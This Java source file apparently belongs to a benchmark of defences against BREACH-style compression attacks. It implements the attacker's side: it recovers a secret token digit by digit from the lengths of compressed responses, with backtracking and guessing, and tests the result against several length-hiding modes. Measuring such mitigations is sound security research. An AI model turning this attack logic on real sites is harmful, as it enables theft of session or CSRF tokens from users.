// SPDX-License-Identifier: Apache-2.0
package org.restcompress.bench.breach;

import java.io.IOException;
import java.util.ArrayDeque;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Comparator;
import java.util.Deque;
import java.util.HashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.stream.IntStream;

/**
 * Guesses a token digit by digit. After a wrong digit, no digit of the next position makes the page shorter. Then the
 * attacker goes back, and tries the previous position again.
 */
final class Attack {
    /**
     * One request batch adds an eighth of the position's rounds so far. A decision may come early, so it is no larger.
     */
    private static final int PART = 8;

    private static final int MOST_ROUNDS_AT_ONCE = 8;

    /** The most digits to guess at a position where no digit makes the page shorter. */
    private static final int MOST_GUESSES = 2;

    /** After so many returns to a position, the attacker uses the first shapes again. */
    private static final int MOST_REHEARSALS = 4;

    private final Oracle victim;
    private final Rehearsal rehearsal;
    private final Way way;
    private final Mode mode;
    private final Jittering jitter;
    private final long budget;
    private final Deque<Position> positions = new ArrayDeque<>();
    private final Map<String, Integer> times = new HashMap<>();
    private final StringBuilder digits = new StringBuilder();
    private long requests;
    private long returns;
    private long rounds;

    Attack(Oracle victim, Rehearsal rehearsal, Mode mode, Way way, int max, long budget) {
        this.victim = victim;
        this.rehearsal = rehearsal;
        this.way = way;
        this.mode = mode;
        this.jitter = mode.jittering(max);
        this.budget = budget;
    }

    /** Runs until the token is whole, no request can tell more, or the budget is spent. */
    Outcome run() throws IOException {
        positions.push(new Position(false));
        while (digits.length() < Shape.Page.TOKEN_LENGTH) {
            Position position = positions.element();
            Rule.Verdict verdict = decide(position);
            if (verdict instanceof Rule.Digit digit) {
                position.isGuessed = false;
                goOn(digit.value());
            } else if (verdict instanceof Rule.NoDigit && position.mayGuess()) {
                goOn(position.guess());
            } else if (verdict instanceof Rule.NoDigit) {
                goBack();
            } else {
                break;
            }
        }
        return new Outcome(digits.toString(), requests);
    }

    private void goOn(int digit) {
        digits.append(Shape.DIGITS.charAt(digit));
        positions.push(new Position(positions.element().isGuessed));
    }

    private void goBack() {
        positions.pop();
        returns++;
        if (positions.isEmpty()) {
            positions.push(new Position(false));
            return;
        }
        int last = digits.length() - 1;
        if (!positions.element().isGuessed) {
            positions.element().rule.refute(Shape.DIGITS.indexOf(digits.charAt(last)));
        }
        digits.setLength(last);
    }

    private Rule.Verdict decide(Position position) throws IOException {
        Rule rule = position.rule;
        Rule.Verdict verdict = rule.verdict();
        for (long before = rounds; verdict instanceof Rule.Open && requests < budget; verdict = rule.verdict()) {
            ask(rule, position.shapes, (int) Math.min(MOST_ROUNDS_AT_ONCE, 1 + (rounds - before) / PART));
        }
        return verdict;
    }

    private void ask(Rule rule, List<Shape> shapes, int atOnce) throws IOException {
        List<Integer> candidates = rule.candidates();
        List<Browser.Visit> visits = new ArrayList<>();
        List<Integer> used = new ArrayList<>();
        for (int round = 0; round < atOnce; round++) {
            long order = way.varies() ? rounds : returns;
            int shape = rule.shape(round);
            for (int digit : candidates) {
                visits.add(shapes.get(shape).trying(Shape.Page.BEFORE_TOKEN + digits, digit, order));
            }
            used.add(shape);
            rounds++;
        }
        int[] lengths = victim.lengths(visits);
        requests += lengths.length;
        for (int round = 0; round < atOnce; round++) {
            int shape = used.get(round);
            // A batch may have more rounds than a decision needs. They are counted, but not used.
            if (rule.verdict() instanceof Rule.Open && shape == rule.shape(0)) {
                int from = round * candidates.size();
                int[] ofRound = Arrays.copyOfRange(lengths, from, from + candidates.size());
                rule.add(
                        candidates,
                        unbiased(candidates, ofRound, shapes.get(shape)),
                        shapes.get(shape).gains());
            }
        }
    }

    private static double[] unbiased(List<Integer> candidates, int[] lengths, Shape shape) {
        return IntStream.range(0, lengths.length)
                .mapToDouble(i -> lengths[i] - shape.biases().get(candidates.get(i)))
                .toArray();
    }

    /**
     * One digit of the token. If no digit makes the page shorter, the previous one may be wrong. Or the right digit
     * makes no difference, because the page loses elsewhere what it saves here. Then the attacker guesses the digits
     * that saved least in the rehearsal. A guess is right if the next position shows a digit.
     */
    private final class Position {
        private final List<Shape> shapes;
        private final Rule rule;
        private final boolean isBehindGuess;
        private boolean isGuessed;
        private int guesses;

        Position(boolean isBehindGuess) {
            String known = digits.toString();
            this.shapes = rehearsal.shapes(known, times.merge(known, 1, Integer::sum) % MOST_REHEARSALS);
            this.rule = way.rule(jitter, shapes.size(), mode.isDeterministic());
            this.isBehindGuess = isBehindGuess;
        }

        boolean mayGuess() {
            return !isBehindGuess && guesses < MOST_GUESSES;
        }

        int guess() {
            isGuessed = true;
            return byVisibility().get(guesses++);
        }

        private List<Integer> byVisibility() {
            return IntStream.range(0, Shape.DIGITS.length())
                    .boxed()
                    .sorted(Comparator.comparingDouble(digit -> shapes.stream()
                            .mapToDouble(shape -> shape.gains().get(digit))
                            .sum()))
                    .toList();
        }
    }

    /**
     * The result of an attack.
     *
     * @param digits the token that the attacker found, or its beginning
     * @param requests number of requests that the victim's browser had to send
     */
    record Outcome(String digits, long requests) {
        /**
         * Compares the digits with the token.
         *
         * @return number of right digits before the first wrong one
         */
        int fallen(String token) {
            int fallen = 0;
            while (fallen < digits.length() && digits.charAt(fallen) == token.charAt(fallen)) {
                fallen++;
            }
            return fallen;
        }
    }

    /** Tells the attacker the lengths of pages that the victim's browser requests. */
    interface Oracle {
        /** Makes the browser request pages, and returns their lengths. */
        int[] lengths(List<Browser.Visit> visits) throws IOException;
    }

    /** How the attacker evaluates lengths and orders guesses. */
    enum Way {
        AVERAGES_REPEATED,
        AVERAGES_VARIED,
        MINIMA_REPEATED,
        MINIMA_VARIED;

        /** Returns the name on the command line and in tables. */
        String title() {
            return name().toLowerCase(Locale.ROOT).replace('_', '-');
        }

        /** Returns whether each round has another order, and so another body. */
        boolean varies() {
            return this == AVERAGES_VARIED || this == MINIMA_VARIED;
        }

        Rule rule(Jittering jitter, int shapes, boolean deterministic) {
            boolean lengthsStay = deterministic && !varies();
            return switch (this) {
                case AVERAGES_REPEATED, AVERAGES_VARIED -> new Averages(jitter, shapes, lengthsStay);
                case MINIMA_REPEATED, MINIMA_VARIED -> new Minima(jitter, shapes, lengthsStay);
            };
        }
    }

    /** How the page hides its length or its secret. */
    enum Mode {
        OFF,
        CONTENT,
        CONTENT_SHA256,
        RANDOM,
        MASKED;

        /** Returns the last segment of the page's path, which is also the name on the command line and in tables. */
        String title() {
            return name().toLowerCase(Locale.ROOT).replace('_', '-');
        }

        /** Returns how lengths vary, by up to {@code max} bytes. */
        Jittering jittering(int max) {
            return switch (this) {
                case OFF -> Jittering.NONE;
                case MASKED -> Jittering.ofMasks();
                case CONTENT, CONTENT_SHA256, RANDOM -> Jittering.triangular(max);
            };
        }

        /** Returns whether the same request always gets the same length. */
        boolean isDeterministic() {
            return this == OFF || this == CONTENT || this == CONTENT_SHA256;
        }
    }
}
